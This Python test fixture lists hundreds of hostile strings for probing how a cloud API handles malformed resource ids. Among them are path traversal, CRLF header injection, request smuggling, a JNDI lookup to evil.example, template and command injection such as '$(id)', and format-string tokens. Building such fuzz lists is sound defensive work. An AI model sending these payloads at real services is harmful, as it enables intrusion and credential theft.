"""Hundreds of texts that somebody may give in the place of one of the cloud's ids."""

# What an id may hold by accident or by malice: steps out of the path, ends of it, other hosts,
# escapes, white space, control and format characters, other alphabets.
BITS = [
    *("/", "//", "..", "../", "/..", "./", "\\", "..\\", "?", "#", "%", "%2f", "%2e%2e", "%00"),
    *("&", "=", ";", ":", "@", "+", ",", "*", "~", "!", "$", "'", '"', "(", ")", "[", "]", "{"),
    *("}", "{job_id}", "<", ">", "|", "^", "`", " ", "\t", "\n", "\r", "\r\n", "\0", "\x1b"),
    *("\x7f", "\x9b", "\u3000"),
    *("\x85", "\xa0", "\u2028", "\u202e", "\u200b", "\ufeff", "\u0661", "é", "\uff41", "\u0131"),
    *("中", "\ud800", "\u2215", "\uff0f", "\uff0e\uff0e", "\u212a", "\u00b2", "\U000e0001"),
    *("😀", "/v3/auth/tokens", "//evil.example/", "@evil.example/", "\r\nX-Auth-Token: t"),
]
_WHOLE = [
    *("", ".", "..", "-", "_", ".a", "-a", "_a", "a" * 129, "a" * 10_000, "http://evil.example/"),
    *("../../../v3/auth/tokens", "....//v3", ".%2e/v3", "%252e%252e/v3", "..;/v3", "..%c0%af"),
    *("\\\\evil.example\\x", "me:secret@evil.example", "[::1]", "127.0.0.1:80/x", "file:///x"),
    *("a HTTP/1.1\r\nX: y", "a HTTP/1.1\r\n\r\nGET /x HTTP/1.1\r\n", "a\r\nHost: evil.example"),
    *("${jndi:ldap://evil.example}", "{{7*7}}", "$(id)", "`id`", "{0.__class__}", "%s%s", "%n"),
]
HOSTILE = [
    *_WHOLE,
    *BITS,
    *(f"a{bit}b" for bit in BITS if bit != ".."),
    *(f"8aace0c8{bit}" for bit in BITS if bit != ".."),
    *(f"{bit}8aace0c8" for bit in BITS),
]
